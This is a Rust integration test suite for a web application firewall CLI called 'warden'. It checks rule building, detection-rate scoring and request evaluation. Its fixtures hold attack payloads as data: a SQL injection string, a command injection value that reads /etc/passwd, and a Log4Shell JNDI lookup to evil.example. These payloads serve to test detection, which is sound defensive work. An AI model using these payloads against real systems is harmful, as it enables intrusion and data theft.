#![allow(clippy::unwrap_used)]
//! The default ruleset through the CLI: the committed JSON is what `rules/src` builds to,
//! `warden waf score` reports per-family and per-rule rates (table and JSON, both profiles),
//! and `warden waf eval` uses the built-in ruleset when `--rules` is omitted.

use std::path::{Path, PathBuf};
use std::process::Command;

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn shared(p: &str) -> PathBuf {
    root().join("../shared/waf").join(p)
}

fn warden(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_warden"))
        .args(args)
        .current_dir(root())
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8(out.stdout).unwrap(),
        String::from_utf8(out.stderr).unwrap(),
    )
}

#[test]
fn committed_ruleset_is_what_the_sources_build_to() {
    let (code, _, err) = warden(&["waf", "build-rules", "--check"]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("up to date"), "{err}");

    // A stale output is reported, not silently accepted.
    let dir = tempfile::tempdir().unwrap();
    let stale = dir.path().join("stale.json");
    std::fs::write(&stale, "{}").unwrap();
    let (code, _, err) = warden(&[
        "waf",
        "build-rules",
        "--check",
        "--out",
        stale.to_str().unwrap(),
    ]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("stale"), "{err}");

    // Building into a fresh file gives the committed bytes.
    let fresh = dir.path().join("fresh.json");
    let (code, _, err) = warden(&["waf", "build-rules", "--out", fresh.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        std::fs::read_to_string(&fresh).unwrap(),
        std::fs::read_to_string(root().join("rules/warden-default.json")).unwrap()
    );
}

#[test]
fn score_reports_rates_per_family_and_rule() {
    let crs = shared("crs-regression.jsonl");
    let (code, out, err) = warden(&["waf", "score", "--json", crs.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let doc: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(doc["profile"], "default");
    assert_eq!(doc["ruleset"], "(built-in default)");
    assert_eq!(doc["failed"], 0);
    let app = &doc["application_attack_families"];
    assert_eq!(app["attack"], 3615);
    let rate = app["detection_rate"].as_f64().unwrap();
    assert!(rate > 0.75, "{rate}");
    let sqli = &doc["families"]["REQUEST-942-APPLICATION-ATTACK-SQLI"];
    assert_eq!(sqli["attack"], 868);
    assert!(sqli["attack_flagged"].as_u64().unwrap() > 500);
    // Per rule: which rules fired on attacks and on negatives.
    let rules = doc["rules"].as_object().unwrap();
    assert!(rules.len() > 40, "{}", rules.len());
    assert!(rules["wdn-942-100"]["attack_flagged"].as_u64().unwrap() > 50);

    // The Datadog ruleset on the same stages, for comparison, through --rules.
    let dd = shared("datadog-rules-1.18.2.json");
    let (code, out, err) = warden(&[
        "waf",
        "score",
        "--json",
        "--rules",
        dd.to_str().unwrap(),
        crs.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{err}");
    let dd_doc: serde_json::Value = serde_json::from_str(&out).unwrap();
    let dd_rate = dd_doc["application_attack_families"]["detection_rate"]
        .as_f64()
        .unwrap();
    assert!((dd_rate - 0.228).abs() < 0.005, "{dd_rate}");
    assert!(rate > 3.0 * dd_rate);
}

#[test]
fn score_table_and_paranoid_profile() {
    let dir = tempfile::tempdir().unwrap();
    let corpus = dir.path().join("mine.jsonl");
    std::fs::write(
        &corpus,
        concat!(
            r#"{"id": "a1", "label": "attack", "family": "sqli", "addresses": {"server.request.query": {"id": ["1' OR '1'='1' --"]}}}"#,
            "\n",
            r#"{"id": "a2", "label": "attack", "family": "cmdi", "addresses": {"server.request.body": {"host": ["x; cat /etc/passwd"]}}}"#,
            "\n",
            r#"{"id": "b1", "label": "benign", "addresses": {"server.request.query": {"q": ["running shoes"]}}}"#,
            "\n",
        ),
    )
    .unwrap();
    for profile in ["default", "paranoid"] {
        let (code, out, err) = warden(&[
            "waf",
            "score",
            "--profile",
            profile,
            corpus.to_str().unwrap(),
        ]);
        assert_eq!(code, 0, "{err}");
        assert!(out.contains(&format!("profile {profile}")), "{out}");
        let line = |name: &str| {
            out.lines()
                .find(|l| l.starts_with(name))
                .unwrap_or_else(|| panic!("no row {name}: {out}"))
                .to_string()
        };
        assert!(line("sqli ").contains("1/1 100.0%"), "{out}");
        assert!(line("cmdi ").contains("1/1 100.0%"), "{out}");
        assert!(line("benign ").contains("0/1   0.0%"), "{out}");
        assert!(out.contains("wdn-942-"), "{out}");
    }
    // A bad line is reported and makes the exit code non-zero.
    std::fs::write(&corpus, "not json\n").unwrap();
    let (code, _, err) = warden(&["waf", "score", corpus.to_str().unwrap()]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("not JSON"), "{err}");
}

#[test]
fn eval_uses_the_built_in_ruleset_without_rules() {
    let dir = tempfile::tempdir().unwrap();
    let reqs = dir.path().join("r.jsonl");
    std::fs::write(
        &reqs,
        r#"{"id": "x", "addresses": {"server.request.headers.no_cookies": {"user-agent": "${jndi:ldap://evil.example/a}"}}}"#,
    )
    .unwrap();
    let (code, out, err) = warden(&["waf", "eval", reqs.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("(built-in default)"), "{err}");
    let v: serde_json::Value = serde_json::from_str(out.lines().next().unwrap()).unwrap();
    assert_eq!(v["flagged"], true);
    assert_eq!(v["rule_ids"][0], "wdn-944-100");
    assert_eq!(v["actions"]["block_request"]["status_code"], 403);
}
